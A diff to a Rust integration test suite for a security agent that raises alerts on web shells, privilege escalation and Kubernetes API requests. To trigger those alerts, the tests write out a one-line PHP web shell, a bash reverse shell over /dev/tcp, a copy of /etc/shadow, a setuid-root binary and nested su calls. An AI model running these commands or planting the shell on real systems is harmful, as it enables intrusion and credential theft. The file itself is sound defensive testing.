@@ -7,13 +7,14 @@ use serde_json::{Value, json};
 use crate::{
     deadline::wait_for,
     dockerd::Dockerd,
-    ocsf::{brief, command_line, container_id, exe, fact, level, pid, title},
+    ocsf::{brief, command_line, container_id, exe, fact, has_signal, level, pid, title},
     tocsin::{PATIENCE, Tocsin},
     web_host::WebHost,
 };
 
 const SHELL: &str = "Web shell detected";
 const PRIVILEGE: &str = "Attempt to run high privilege command detected";
+const KUBERNETES: &str = "Suspicious request to Kubernetes API";
 
 /// A page that runs what it is told: the classic.
 const PAGE: &str = "<?php system($_GET['c']);";
@@ -106,6 +107,25 @@ fn is_ours(alert: &Value) -> bool {
 }
 
 #[test]
+fn a_shell_that_talks_to_a_connection_is_critical() {
+    let Some(host) = WebHost::start() else { return };
+    host.start_python(8000);
+    host.run("nc -l 127.0.0.1 4446 >/dev/null 2>&1 &");
+    let agent = Tocsin::start(&[]);
+    ask(
+        &host,
+        ":8000/",
+        "setsid timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4446 0>&1'",
+    );
+    let alert = agent.wait_for_alert(SHELL, |alert| {
+        command_line(alert) == "bash -i" && has_signal(alert, "reverse-shell-descriptors")
+    });
+    assert_eq!(level(&alert), "Critical", "{}", brief(&alert));
+    assert_eq!(fact(&alert, "process.stdin"), "internet-socket", "{}", brief(&alert));
+    assert_eq!(fact(&alert, "web_worker.image"), "/usr/bin/python3.11");
+}
+
+#[test]
 fn pages_do_what_pages_do_in_silence() {
     let Some(host) = host_with_page() else { return };
     let agent = Tocsin::start(&["--dedup", "0"]);
@@ -170,11 +190,17 @@ fn an_attempt_at_root_counts_and_success_is_critical() {
     host.run("cp /usr/bin/env /opt/rooted; chmod 4755 /opt/rooted");
     let agent = Tocsin::start(&["--dedup", "0"]);
     let mark = std::process::id();
-    for command in ["sudo -n true MARK", "cp /etc/shadow /srv/MARK", "/opt/rooted true MARK"] {
+    for command in [
+        "sudo -n true MARK",
+        "cp /etc/shadow /srv/MARK",
+        "/opt/rooted true MARK",
+        r#"sh -c "sh -c 'sh -c \"su -c id deepMARK; :\"; :'; :""#,
+    ] {
         ask(&host, "/page.php", &command.replace("MARK", &mark.to_string()));
     }
     let expected = [
         (format!("sudo -n true {mark}"), "/usr/bin/sudo", "Medium"),
+        (format!("su -c id deep{mark}"), "/usr/bin/su", "Medium"),
         (format!("cp /etc/shadow /srv/{mark}"), "/usr/bin/cp", "Medium"),
         (format!("/opt/rooted true {mark}"), "/opt/rooted", "Critical"),
         (format!("true {mark}"), "/usr/bin/true", "Critical"),
@@ -200,9 +226,10 @@ fn the_same_in_a_container() {
         class Page(http.server.BaseHTTPRequestHandler):\n    \
         def do_GET(self):\n        \
         self.send_response(200); self.end_headers()\n        \
-        self.wfile.write(subprocess.run(['sh', '-c', 'id; whoami; sudo -n true'], capture_output=True).stdout)\n\
+        self.wfile.write(subprocess.run(['sh', '-c', 'id; whoami; sudo -n true; curl -s -m 1 http://10.96.0.1:443/version'], capture_output=True).stdout)\n\
         http.server.HTTPServer(('', 8000), Page).serve_forever()";
-    let options = ["--network", "none", "--user", "www-data"];
+    let told_api = "KUBERNETES_SERVICE_HOST=10.96.0.1";
+    let options = ["--network", "none", "--user", "www-data", "--env", told_api];
     let id = dockerd.run("site", &options, &[image, "python3", "-c", server]);
     dockerd.wait_for_listener(&id, 8000);
     let asked = dockerd.docker_ok(&["exec", "site", "curl", "-s", "http://127.0.0.1:8000/"]);
@@ -210,6 +237,8 @@ fn the_same_in_a_container() {
     let first = agent.wait_for_alert(SHELL, |alert| container_id(alert) == id);
     assert_eq!(fact(&first, "web_worker.uid"), 33, "{}", brief(&first));
     agent.wait_for_alert(PRIVILEGE, |alert| container_id(alert) == id);
+    let request = agent.wait_for_alert(KUBERNETES, |alert| container_id(alert) == id);
+    assert!(has_signal(&request, "web-worker"), "{}", brief(&request));
     // Who asks by `docker exec` is not below the container's first process.
     dockerd.docker_ok(&["exec", "site", "sh", "-c", "id; whoami; : outside"]);
     let alerts = agent.alerts_after_quiet();
